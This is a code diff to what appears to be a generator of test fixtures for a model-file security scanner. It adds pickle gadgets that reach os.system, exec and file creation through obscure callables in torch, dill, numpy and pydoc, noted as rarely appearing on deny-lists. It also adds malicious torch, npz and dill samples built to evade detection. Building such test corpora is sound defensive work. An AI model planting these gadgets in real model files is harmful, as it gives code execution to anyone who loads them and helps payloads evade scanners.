@@ -86,7 +86,7 @@ def gadgets():
         "py2-builtin-eval": call(g("__builtin__", "eval"), s("__import__('os').system(%r)" % CMD)),
         "runpy-run-code": call(g("runpy", "_run_code"), s(SRC), b"}"),
         "cprofile-run": call(g("cProfile", "run"), s(SRC)),
-        "pty-spawn-free-os-popen": call(g("os", "popen"), s(CMD)),
+        "os-popen": call(g("os", "popen"), s(CMD)),
         # operator.methodcaller('runsource', SRC)(code.InteractiveInterpreter())
         "methodcaller-code-interpreter": call(
             call(g("operator", "methodcaller"), s("runsource"), s(SRC)),
@@ -104,6 +104,22 @@ def gadgets():
         "dotted-torch-serialization": call(sg("torch.serialization", "os.system"), s(CMD)),
         "dotted-torch": call(sg("torch", "os.system"), s(CMD)),
         "dotted-joblib": call(sg("joblib", "os.system"), s(CMD)),
+        # torch.nn.modules.module imports torch; walk torch -> serialization -> os -> system
+        "dotted-module-walk": call(sg("torch.nn.modules.module", "torch.serialization.os.system"), s(CMD)),
+        # file-creating callables that rarely appear on deny-lists
+        "io-open": call(g("io", "open"), s(MARKER), s("w")),
+        "codecs-open": call(g("codecs", "open"), s(MARKER), s("w")),
+        "os-open": call(g("os", "open"), s(MARKER), b"K" + bytes([os.O_CREAT | os.O_WRONLY])),
+        "logging-filehandler": call(g("logging", "FileHandler"), s(MARKER)),
+        "zipfile-write-mode": call(g("zipfile", "ZipFile"), s(MARKER), s("w")),
+        "sqlite3-connect": call(call(g("operator", "methodcaller"), s("execute"), s("create table t (x)")),
+                                call(g("sqlite3", "connect"), s(MARKER))),
+        "pydoc-pipepager": call(g("pydoc", "pipepager"), s(""), s(CMD)),
+        # library-internal helpers that reach exec or getattr
+        "numpy-runstring": call(g("numpy.testing._private.utils", "runstring"), s(SRC), b"}"),
+        "dill-internal-getattr": call(call(g("dill._dill", "_get_attr"), call(g("dill._dill", "_import_module"), s("os")), s("system")), s(CMD)),
+        "dill-eval-repr": call(g("dill._dill", "_eval_repr"), s("__import__('os').system(%r)" % CMD)),
+        "pathlib-touch": call(call(g("operator", "methodcaller"), s("touch")), call(g("pathlib", "Path"), s(MARKER))),
     }
 
 
@@ -159,13 +175,13 @@ def prepend(data, payload_ops):
     return PROTO2 + payload_ops + b"0" + data
 
 
-def rezip(zip_bytes, transform, compression=zipfile.ZIP_STORED):
-    """Rewrite a zip member by member (same order and names); transform(name, data) -> data."""
+def rezip(zip_bytes, transform, compression=zipfile.ZIP_STORED, rename=None):
+    """Rewrite a zip member by member (same order); transform(name, data) -> data; rename maps old to new names."""
     src = zipfile.ZipFile(io.BytesIO(zip_bytes))
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", compression) as dst:
         for info in src.infolist():
-            dst.writestr(info.filename, transform(info.filename, src.read(info)))
+            dst.writestr((rename or {}).get(info.filename, info.filename), transform(info.filename, src.read(info)))
     return buf.getvalue()
 
 
@@ -260,7 +276,7 @@ def main(out):
     tagged_state = dict(state)
     tagged_state["note"] = SENTINEL
     z = tsave(tagged_state)
-    name = pickle_member(z)
+    name = name0 = pickle_member(z)
     mal(out, "malicious/torch/zip_data_pkl.pt", rezip(z, lambda n, d: splice(d, mal_payload) if n == name else d),
         "torch-zip-payload", "torch", "os.system in archive/data.pkl of a real torch zip save")
     tagged_ckpt = dict(checkpoint, note=SENTINEL)
@@ -280,6 +296,9 @@ def main(out):
     mal(out, "malicious/torch/whole_module_exec.pt", rezip(z, lambda n, d: splice(d, gad["builtins-exec"]) if n == name else d),
         "torch-zip-whole-module-payload", "torch", "builtins.exec in a whole-module save")
     leg = tsave(tagged_state, True)
+    mal(out, "malicious/torch/zip_deflated.pt",
+        rezip(tsave(tagged_state), lambda n, d: splice(d, gad["io-open"]) if n == name0 else d, compression=zipfile.ZIP_DEFLATED),
+        "torch-zip-deflated-payload", "torch", "members deflate-compressed instead of stored; payload in data.pkl")
     mal(out, "malicious/torch/legacy_main_pickle.pt", splice(leg, gad["runpy-run-code"]),
         "torch-legacy-payload", "torch", "runpy._run_code in the main pickle of a legacy save")
     mal(out, "malicious/torch/legacy_first_pickle.pt", prepend(leg, gad["partial-timeit"]),
@@ -398,6 +417,10 @@ def main(out):
     mal(out, "malicious/numpy/object_array.npz", rezip(zb, lambda n, d: splice(d, gad["runpy-run-code"]) if n == "o.npy" else d),
         "npz-object-payload", "numpy-npz", "payload inside the object-array member of an npz")
 
+    mal(out, "malicious/numpy/member_without_npy_suffix.npz",
+        rezip(zb, lambda n, d: splice(d, gad["numpy-runstring"]) if n == "o.npy" else d, rename={"o.npy": "config"}),
+        "npz-member-without-npy-suffix", "numpy-npz", "object array member named 'config': numpy still reads it as an array")
+
     # ---- sklearn
     X = np.random.RandomState(0).rand(40, 3)
     y = (X[:, 0] > 0.5).astype(int)
@@ -437,6 +460,8 @@ def main(out):
     add(out, "benign/dill/plain.dill", dill.dumps(data), "dill-plain-data", False, ["clean"], "dill")
     mal(out, "malicious/dill/plain.dill", splice(dill.dumps(dict(data, name=SENTINEL)), gad["pkgutil-resolve-name"]),
         "dill-payload", "dill", "payload in a dill stream")
+    mal(out, "malicious/dill/dill_internals.dill", splice(dill.dumps(dict(data, name=SENTINEL)), gad["dill-internal-getattr"]),
+        "dill-internal-gadget", "dill", "dill's own _import_module and _get_attr reach os.system")
 
     with open(os.path.join(out, "manifest.json"), "w") as f:
         json.dump(ENTRIES, f, indent=1)
